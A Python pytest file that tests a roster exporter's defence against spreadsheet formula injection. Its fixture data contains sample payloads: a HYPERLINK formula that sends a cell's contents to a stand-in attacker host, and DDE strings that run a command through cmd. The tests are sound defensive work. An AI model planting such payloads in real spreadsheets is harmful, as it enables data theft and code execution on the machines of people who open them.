"""Text that looks like a formula is exported as text and imported back as typed."""

import io

import pytest
from openpyxl import load_workbook

from organizations import roster
from organizations.models import Person
from tests.organizations.roster.builders import masses_row, preview, xlsx

pytestmark = pytest.mark.usefixtures("english")

# What a branch secretary typed, found live in the office's Excel by the probe.
TYPED = {
    "F001": ('=HYPERLINK("http://e.vil/?"&A1,"点此")', "=cmd|' /C calc'!A0"),
    "F002": ("+1+1", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "F003": ("-2+3", "'=已经带引号"),
    "F004": ("'单引号开头", "@提及 =1"),
}


@pytest.fixture
def typed(inst):
    for staff_no, (name, position) in TYPED.items():
        Person.objects.create(
            institute=inst.institute,
            name=name,
            staff_no=staff_no,
            position=position,
        )
    Person.objects.create(institute=inst.institute, name="普通", staff_no="=F005")
    return inst


def test_it_exports_no_live_formula(typed):
    content = roster.roster_export(institute=typed.institute)
    book = load_workbook(io.BytesIO(content))
    cells = [cell for row in book["人员"].iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + TYPED["F001"][0] in texts
    assert "'=F005" in texts


def test_it_imports_its_export_back_exactly_as_typed(typed):
    content = roster.roster_export(institute=typed.institute)
    result = preview(typed, content, "export.xlsx")
    assert result.ok
    assert result.counts["created"] == 0
    assert result.counts["updated"] == 0
    by_staff_no = {row.key: row.values for row in result.people}
    for staff_no, (name, position) in TYPED.items():
        assert by_staff_no[staff_no]["name"] == " ".join(name.split())
        assert by_staff_no[staff_no]["position"] == position
    assert by_staff_no["=F005"]["name"] == "普通"


def test_it_keeps_a_typed_leading_quote_in_an_import(inst):
    content = xlsx([masses_row(inst, name="'引号", staff_no="Q1")])
    assert preview(inst, content).people[0].values["name"] == "'引号"
